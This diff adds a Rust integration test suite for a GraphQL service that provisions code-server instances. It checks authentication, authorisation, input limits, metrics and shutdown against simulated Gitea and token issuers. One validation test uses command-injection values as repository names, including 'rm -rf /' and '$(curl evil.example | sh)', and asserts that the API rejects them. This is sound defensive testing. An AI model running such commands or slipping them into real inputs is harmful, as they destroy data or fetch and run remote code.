@@ -1,0 +1,654 @@
+//! The GraphQL API through the warp filter, in-process, against the simulated issuer and
+//! Gitea.
+
+use std::{sync::Arc, time::Duration};
+
+use codeserver_service::{
+    auth::AuthSettings,
+    config::InstanceSettings,
+    gitea::GiteaSettings,
+    http,
+    metrics::Metrics,
+    reconcile::{Kinds, Reconciler, Timeouts},
+    render::{ActiveTemplates, Templates},
+    serve::{self, Parts},
+    sim::{
+        gitea::{Fault, SimGitea},
+        issuer::{DEFAULT_AUDIENCE, Issuer, TokenSpec},
+    },
+};
+use serde_json::{Value, json};
+use warp::Filter;
+
+struct Harness {
+    issuer: Arc<Issuer>,
+    gitea: SimGitea,
+    metrics: Metrics,
+    base: String,
+    client: reqwest::Client,
+    _stop: tokio::sync::oneshot::Sender<()>,
+}
+
+fn instance_settings() -> InstanceSettings {
+    InstanceSettings {
+        namespace: "codeserver-instances".into(),
+        pvc_storage_class: "standard".into(),
+        pvc_size: "10Gi".into(),
+        image: "codercom/code-server:latest".into(),
+        cpu: "500m".into(),
+        memory: "1Gi".into(),
+        cpu_limit: "2".into(),
+        memory_limit: "4Gi".into(),
+        base_domain: "devplatform.local".into(),
+        templates_dir: None,
+        values_files: vec![],
+    }
+}
+
+/// A Kubernetes client for an address where nothing listens: any cluster call fails, so
+/// an answer other than `internal error` proves the cluster was never called.
+async fn unreachable_cluster() -> kube::Client {
+    codeserver_service::install_crypto();
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let url = format!("http://{}", listener.local_addr().unwrap());
+    drop(listener);
+    let config = kube::Config::new(url.parse().unwrap());
+    kube::Client::try_from(config).unwrap()
+}
+
+async fn harness() -> Harness {
+    harness_on(unreachable_cluster().await).await
+}
+
+async fn harness_on(cluster: kube::Client) -> Harness {
+    let issuer = Arc::new(Issuer::start().await.unwrap());
+    let gitea = SimGitea::start(issuer.clone()).await.unwrap();
+    let metrics = Metrics::new().unwrap();
+    let reconciler = Arc::new(Reconciler::new(
+        cluster,
+        Kinds::new(Some("v1".to_owned())),
+        Arc::new(ActiveTemplates::new(Templates::builtin().unwrap())),
+        instance_settings(),
+        Timeouts {
+            ready: Duration::from_secs(5),
+            ..Timeouts::default()
+        },
+    ));
+    let routes = serve::assemble(Parts {
+        reconciler,
+        auth: AuthSettings {
+            jwks_url: issuer.jwks_url(),
+            issuer: Some(issuer.issuer_url()),
+            audience: Some(DEFAULT_AUDIENCE.to_owned()),
+            ..AuthSettings::default()
+        },
+        gitea: GiteaSettings {
+            backoff: Duration::from_millis(5),
+            ..GiteaSettings::new(&gitea.url())
+        },
+        metrics: metrics.clone(),
+    })
+    .unwrap();
+    let filter = routes.api.or(routes.metrics).unify();
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let base = format!("http://{}", listener.local_addr().unwrap());
+    let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
+    tokio::spawn(http::serve(
+        listener,
+        filter,
+        async {
+            let _ = stopped.await;
+        },
+        Duration::from_secs(1),
+    ));
+    Harness {
+        issuer,
+        gitea,
+        metrics,
+        base,
+        client: reqwest::Client::new(),
+        _stop: stop,
+    }
+}
+
+impl Harness {
+    fn token(&self, user: &str) -> String {
+        self.issuer.mint(&TokenSpec::new(user)).unwrap()
+    }
+
+    fn request(&self, method: reqwest::Method, path: &str) -> reqwest::RequestBuilder {
+        self.client.request(method, format!("{}{path}", self.base))
+    }
+
+    async fn get(&self, path: &str) -> reqwest::Response {
+        self.request(reqwest::Method::GET, path)
+            .send()
+            .await
+            .unwrap()
+    }
+
+    async fn post(&self, token: Option<&str>, body: &Value) -> (u16, Value) {
+        let mut request = self
+            .request(reqwest::Method::POST, "/graphql")
+            .header("content-type", "application/json")
+            .body(body.to_string());
+        if let Some(token) = token {
+            request = request.bearer_auth(token);
+        }
+        let response = request.send().await.unwrap();
+        let status = response.status().as_u16();
+        let json = response.json().await.unwrap_or(Value::Null);
+        (status, json)
+    }
+
+    async fn query(&self, token: Option<&str>, query: &str) -> Value {
+        let (status, body) = self.post(token, &json!({ "query": query })).await;
+        assert_eq!(status, 200, "{body}");
+        body
+    }
+}
+
+fn error_of(body: &Value) -> (&str, &str) {
+    let error = &body["errors"][0];
+    (
+        error["message"].as_str().unwrap_or_default(),
+        error["extensions"]["code"].as_str().unwrap_or_default(),
+    )
+}
+
+#[tokio::test]
+async fn my_repositories_lists_what_gitea_lets_the_caller_read() {
+    let h = harness().await;
+    let alice = h.token("alice");
+    let body = h
+        .query(
+            Some(&alice),
+            "{ myRepositories { owner name cloneUrl private } }",
+        )
+        .await;
+    let repos = body["data"]["myRepositories"].as_array().unwrap();
+    let names: Vec<String> = repos
+        .iter()
+        .map(|r| {
+            format!(
+                "{}/{}",
+                r["owner"].as_str().unwrap(),
+                r["name"].as_str().unwrap()
+            )
+        })
+        .collect();
+    assert!(
+        names.contains(&"devteam/backend-api".to_owned()),
+        "{names:?}"
+    );
+    assert!(names.contains(&"alice/notes".to_owned()));
+    assert!(!names.iter().any(|n| n.starts_with("bob/")));
+    assert!(h.metrics.encode().contains(
+        "codeserver_graphql_request_duration_seconds_count{operation=\"myRepositories\"} 1"
+    ));
+}
+
+#[tokio::test]
+async fn unauthenticated_and_forged_callers_get_unauthorized() {
+    let h = harness().await;
+    let forged = h
+        .issuer
+        .mint(&TokenSpec::new("alice").audience("someone-else"))
+        .unwrap();
+    for token in [None, Some("garbage"), Some(forged.as_str())] {
+        let body = h.query(token, "{ myRepositories { name } }").await;
+        assert_eq!(
+            error_of(&body),
+            ("unauthorized", "UNAUTHENTICATED"),
+            "{body}"
+        );
+        assert!(body["data"].is_null());
+    }
+    assert_eq!(h.gitea.requests(), 0, "nothing reached gitea");
+}
+
+#[tokio::test]
+async fn gitea_outages_answer_with_a_message_not_a_crash() {
+    let h = harness().await;
+    h.gitea.set_fault(Fault::Unavailable);
+    let body = h
+        .query(Some(&h.token("alice")), "{ myRepositories { name } }")
+        .await;
+    assert_eq!(
+        error_of(&body),
+        ("repository service unavailable", "INTERNAL"),
+        "{body}"
+    );
+    let text = body.to_string();
+    assert!(
+        !text.contains("127.0.0.1") && !text.contains("503"),
+        "{text}"
+    );
+}
+
+#[tokio::test]
+async fn malformed_requests_are_refused_before_execution() {
+    let h = harness().await;
+    let alice = h.token("alice");
+    let plain = h
+        .request(reqwest::Method::POST, "/graphql")
+        .header("content-type", "text/plain")
+        .bearer_auth(&alice)
+        .body(json!({"query": "{ myRepositories { name } }"}).to_string())
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(plain.status(), 415);
+
+    let (status, _) = h.post(Some(&alice), &json!("not a request")).await;
+    assert_eq!(status, 400);
+
+    let huge =
+        json!({ "query": format!("{{ myRepositories {{ name }} }} #{}", "x".repeat(70_000)) });
+    let (status, _) = h.post(Some(&alice), &huge).await;
+    assert_eq!(status, 413);
+
+    let deep = format!(
+        "{{ __schema {{ queryType {{ fields {{ type {{ {} name {} }} }} }} }} }}",
+        "ofType {".repeat(20),
+        "}".repeat(20)
+    );
+    let body = h.query(Some(&alice), &deep).await;
+    let message = body["errors"][0]["message"].as_str().unwrap_or_default();
+    assert!(message.contains("nested too deep"), "{}", body["errors"]);
+
+    let wide: String = (0..1_100)
+        .map(|i| format!("a{i}: myRepositories {{ name }} "))
+        .collect();
+    let body = h.query(Some(&alice), &format!("{{ {wide} }}")).await;
+    let message = body["errors"][0]["message"].as_str().unwrap_or_default();
+    assert!(message.contains("too complex"), "{}", body["errors"]);
+    assert_eq!(h.gitea.requests(), 0);
+}
+
+#[tokio::test]
+async fn introspection_works_for_graphiql_and_the_page_is_served() {
+    let h = harness().await;
+    let body = h
+        .query(None, "{ __schema { queryType { name fields { name } } } }")
+        .await;
+    assert_eq!(
+        body["data"]["__schema"]["queryType"]["name"], "Query",
+        "{body}"
+    );
+    let page = h.get("/graphql").await;
+    assert_eq!(page.status(), 200);
+    assert!(page.text().await.unwrap().contains("graphiql"));
+}
+
+#[tokio::test]
+async fn request_ids_are_echoed_when_safe_and_replaced_when_not() {
+    let h = harness().await;
+    let reply = |id: &'static str| {
+        h.request(reqwest::Method::POST, "/graphql")
+            .header("content-type", "application/json")
+            .header("x-request-id", id)
+            .body(r#"{"query":"{ __typename }"}"#)
+            .send()
+    };
+    let ok = reply("trace-123").await.unwrap();
+    assert_eq!(ok.headers()["x-request-id"], "trace-123");
+    let hostile = reply("evil id with spaces").await.unwrap();
+    let replaced = hostile.headers()["x-request-id"].to_str().unwrap();
+    assert_ne!(replaced, "evil id with spaces");
+    assert_eq!(replaced.len(), 36, "a fresh uuid");
+}
+
+#[tokio::test]
+async fn health_and_readiness_follow_the_cluster() {
+    let h = harness().await;
+    assert_eq!(
+        h.get("/health").await.status(),
+        200,
+        "liveness needs nothing"
+    );
+    let not_ready = h.get("/ready").await;
+    assert_eq!(not_ready.status(), 503);
+    assert!(!not_ready.text().await.unwrap().contains("Kubernetes"));
+    let body = h.query(None, "{ health }").await;
+    assert_eq!(body["data"]["health"], false, "{body}");
+}
+
+#[tokio::test]
+async fn metrics_are_served_with_their_content_type() {
+    let h = harness().await;
+    h.query(None, "{ myRepositories { name } }").await;
+    let metrics = h.get("/metrics").await;
+    assert_eq!(metrics.status(), 200);
+    let content_type = metrics.headers()["content-type"]
+        .to_str()
+        .unwrap()
+        .to_owned();
+    assert!(content_type.starts_with("text/plain"), "{content_type}");
+    let text = metrics.text().await.unwrap();
+    assert!(
+        text.contains(
+            "codeserver_graphql_request_duration_seconds_count{operation=\"myRepositories\"} 1"
+        ),
+        "{text}"
+    );
+    assert_eq!(h.get("/nope").await.status(), 404);
+    let put = h
+        .request(reqwest::Method::PUT, "/graphql")
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(put.status(), 405);
+}
+
+#[tokio::test]
+async fn every_operation_needs_authentication() {
+    let h = harness().await;
+    for operation in [
+        "{ myCodeServers { id } }",
+        "{ codeServer(id: \"code-server-alice\") { id } }",
+        "{ codeServerStatus(id: \"code-server-alice\") }",
+        "{ codeServerLogs(id: \"code-server-alice\") }",
+        "{ instanceStats { totalInstances } }",
+        "{ renderCodeServer(repoOwner: \"devteam\", repoName: \"docs\") { manifests } }",
+        "{ planCodeServer(repoOwner: \"devteam\", repoName: \"docs\") { unchanged } }",
+        "mutation { provisionCodeServer(repoOwner: \"devteam\", repoName: \"docs\") { isNew } }",
+        "mutation { stopCodeServer(id: \"code-server-alice\") }",
+        "mutation { startCodeServer(id: \"code-server-alice\") { id } }",
+        "mutation { deleteCodeServer(id: \"code-server-alice\") }",
+        "mutation { syncRepository(id: \"code-server-alice\") }",
+    ] {
+        let body = h.query(None, operation).await;
+        assert_eq!(
+            error_of(&body),
+            ("unauthorized", "UNAUTHENTICATED"),
+            "{operation}: {body}"
+        );
+    }
+    assert_eq!(h.gitea.requests(), 0);
+}
+
+#[tokio::test]
+async fn hostile_arguments_are_refused_before_any_call() {
+    let h = harness().await;
+    let alice = h.token("alice");
+    let long = "a".repeat(10_000);
+    for (owner, name) in [
+        ("devteam", "x; rm -rf /"),
+        ("devteam", "$(curl evil.example | sh)"),
+        ("devteam", ".."),
+        ("..", "docs"),
+        ("devteam", "line\nbreak"),
+        ("devteam", long.as_str()),
+    ] {
+        let body = h
+            .post(
+                Some(&alice),
+                &json!({
+                    "query": "mutation($o: String!, $n: String!) { provisionCodeServer(repoOwner: $o, repoName: $n) { isNew } }",
+                    "variables": {"o": owner, "n": name},
+                }),
+            )
+            .await
+            .1;
+        let (message, code) = error_of(&body);
+        assert_eq!(code, "BAD_USER_INPUT", "{owner:?}/{name:.40?}: {body:.300}");
+        assert!(
+            !message.contains("rm -rf") && message.len() < 200,
+            "{message}"
+        );
+    }
+    for id in ["code-server-../x", "Code-Server-Alice", "x", long.as_str()] {
+        for operation in [
+            "query($id: String!) { codeServerStatus(id: $id) }",
+            "mutation($id: String!) { stopCodeServer(id: $id) }",
+            "mutation($id: String!) { deleteCodeServer(id: $id) }",
+            "mutation($id: String!) { syncRepository(id: $id) }",
+        ] {
+            let body = h
+                .post(
+                    Some(&alice),
+                    &json!({"query": operation, "variables": {"id": id}}),
+                )
+                .await
+                .1;
+            assert_eq!(error_of(&body).1, "BAD_USER_INPUT", "{operation} {id:.40}");
+        }
+    }
+    for lines in [0, -5, 10_001] {
+        let body = h
+            .post(
+                Some(&alice),
+                &json!({
+                    "query": "query($l: Int) { codeServerLogs(id: \"code-server-alice\", lines: $l) }",
+                    "variables": {"l": lines},
+                }),
+            )
+            .await
+            .1;
+        assert_eq!(error_of(&body).1, "BAD_USER_INPUT", "{lines}");
+    }
+    assert_eq!(h.gitea.requests(), 0, "nothing reached gitea");
+}
+
+#[tokio::test]
+async fn provisioning_a_repository_gitea_refuses_creates_nothing() {
+    let h = harness().await;
+    let bob = h.token("bob");
+    for (owner, name) in [("alice", "notes"), ("nobody", "nothing")] {
+        let body = h
+            .query(
+                Some(&bob),
+                &format!(
+                    "mutation {{ provisionCodeServer(repoOwner: \"{owner}\", repoName: \"{name}\") {{ isNew }} }}"
+                ),
+            )
+            .await;
+        // NB: the cluster is unreachable here, so reaching it would answer INTERNAL.
+        assert_eq!(
+            error_of(&body),
+            ("repository access denied", "FORBIDDEN"),
+            "{body}"
+        );
+    }
+    h.gitea.set_fault(Fault::Unavailable);
+    let body = h
+        .query(
+            Some(&bob),
+            "mutation { provisionCodeServer(repoOwner: \"devteam\", repoName: \"docs\") { isNew } }",
+        )
+        .await;
+    assert_eq!(
+        error_of(&body),
+        ("repository service unavailable", "INTERNAL"),
+        "{body}"
+    );
+}
+
+#[tokio::test]
+async fn admin_operations_need_the_admin_role() {
+    let h = harness().await;
+    let bob = h.token("bob");
+    let body = h
+        .query(Some(&bob), "{ instanceStats { totalInstances } }")
+        .await;
+    assert_eq!(error_of(&body), ("forbidden", "FORBIDDEN"), "{body}");
+    for field in ["renderCodeServer", "planCodeServer"] {
+        let body = h
+            .query(
+                Some(&bob),
+                &format!(
+                    "{{ {field}(repoOwner: \"devteam\", repoName: \"docs\", userId: \"alice\") {{ __typename }} }}"
+                ),
+            )
+            .await;
+        assert_eq!(error_of(&body), ("forbidden", "FORBIDDEN"), "{body}");
+    }
+    assert_eq!(h.gitea.requests(), 0);
+}
+
+/// The spec's schema, verbatim (comments dropped).
+const SPEC_SCHEMA: &str = r#"
+type CodeServerInstance {
+    id: String!
+    userId: String!
+    repoName: String!
+    repoOwner: String!
+    url: String!
+    status: InstanceStatus!
+    createdAt: String!
+    lastAccessedAt: String
+    storageUsed: String
+}
+enum InstanceStatus {
+    PENDING
+    STARTING
+    RUNNING
+    STOPPING
+    STOPPED
+    ERROR
+}
+type ProvisionResult {
+    instance: CodeServerInstance!
+    message: String!
+    isNew: Boolean!
+}
+type InstanceStats {
+    totalInstances: Int!
+    runningInstances: Int!
+    stoppedInstances: Int!
+    totalStorageUsed: String!
+}
+type Query {
+    myCodeServers: [CodeServerInstance!]!
+    codeServer(id: String!): CodeServerInstance
+    codeServerStatus(id: String!): InstanceStatus!
+    codeServerLogs(id: String!, lines: Int): String!
+    health: Boolean!
+    instanceStats: InstanceStats!
+}
+type Mutation {
+    provisionCodeServer(repoOwner: String!, repoName: String!): ProvisionResult!
+    stopCodeServer(id: String!): Boolean!
+    startCodeServer(id: String!): CodeServerInstance!
+    deleteCodeServer(id: String!): Boolean!
+    syncRepository(id: String!): Boolean!
+}
+"#;
+
+/// `type Name { ... }` blocks of an SDL text as (header, member lines), descriptions dropped.
+fn sdl_blocks(sdl: &str) -> Vec<(String, Vec<String>)> {
+    let mut blocks = Vec::new();
+    let mut in_description = false;
+    let mut current: Option<(String, Vec<String>)> = None;
+    for line in sdl.lines().map(str::trim) {
+        if line.starts_with("\"\"\"") {
+            let one_line = line.len() > 3 && line.ends_with("\"\"\"");
+            if !one_line {
+                in_description = !in_description;
+            }
+            continue;
+        }
+        if in_description || line.is_empty() {
+            continue;
+        }
+        if let Some(header) = line.strip_suffix('{') {
+            current = Some((header.trim().to_owned(), Vec::new()));
+        } else if line == "}" {
+            blocks.extend(current.take());
+        } else if let Some((_, members)) = current.as_mut() {
+            members.push(line.to_owned());
+        }
+    }
+    blocks
+}
+
+#[test]
+fn the_schema_has_the_spec_types_fields_and_nullability_exactly() {
+    let schema = async_graphql::Schema::build(
+        codeserver_service::graphql::Query,
+        codeserver_service::graphql::Mutation,
+        async_graphql::EmptySubscription,
+    )
+    .finish();
+    let ours = sdl_blocks(&schema.sdl());
+    for (header, members) in sdl_blocks(SPEC_SCHEMA) {
+        let (_, have) = ours
+            .iter()
+            .find(|(h, _)| *h == header)
+            .unwrap_or_else(|| panic!("{header} is missing"));
+        for member in &members {
+            assert!(
+                have.contains(member),
+                "{header}: {member} is missing or differs"
+            );
+        }
+        if !matches!(header.as_str(), "type Query" | "type Mutation") {
+            assert_eq!(
+                have.len(),
+                members.len(),
+                "{header} has extra members: {have:?}"
+            );
+        }
+    }
+}
+
+#[tokio::test]
+async fn shutdown_finishes_in_flight_requests_then_stops() {
+    use warp::Reply;
+    codeserver_service::install_crypto();
+    let slow = warp::path("slow").then(|| async {
+        tokio::time::sleep(Duration::from_millis(300)).await;
+        warp::reply::html("done").into_response()
+    });
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let url = format!("http://{}/slow", listener.local_addr().unwrap());
+    let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
+    let server = tokio::spawn(http::serve(
+        listener,
+        slow,
+        async {
+            let _ = stopped.await;
+        },
+        Duration::from_secs(5),
+    ));
+    let client = reqwest::Client::new();
+    let in_flight = tokio::spawn(client.get(&url).send());
+    tokio::time::sleep(Duration::from_millis(100)).await;
+    stop.send(()).unwrap();
+    let answer = in_flight.await.unwrap().unwrap();
+    assert_eq!(answer.text().await.unwrap(), "done");
+    tokio::time::timeout(Duration::from_secs(2), server)
+        .await
+        .expect("the server stops once idle")
+        .unwrap();
+    assert!(reqwest::Client::new().get(&url).send().await.is_err());
+}
+
+#[tokio::test]
+async fn shutdown_gives_up_after_the_grace_period() {
+    use warp::Reply;
+    codeserver_service::install_crypto();
+    let stuck = warp::path("stuck").then(|| async {
+        tokio::time::sleep(Duration::from_secs(30)).await;
+        warp::reply::html("late").into_response()
+    });
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let url = format!("http://{}/stuck", listener.local_addr().unwrap());
+    let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
+    let server = tokio::spawn(http::serve(
+        listener,
+        stuck,
+        async {
+            let _ = stopped.await;
+        },
+        Duration::from_millis(200),
+    ));
+    let _in_flight = tokio::spawn(reqwest::Client::new().get(&url).send());
+    tokio::time::sleep(Duration::from_millis(100)).await;
+    stop.send(()).unwrap();
+    tokio::time::timeout(Duration::from_secs(2), server)
+        .await
+        .expect("serve returns after the grace period")
+        .unwrap();
+}
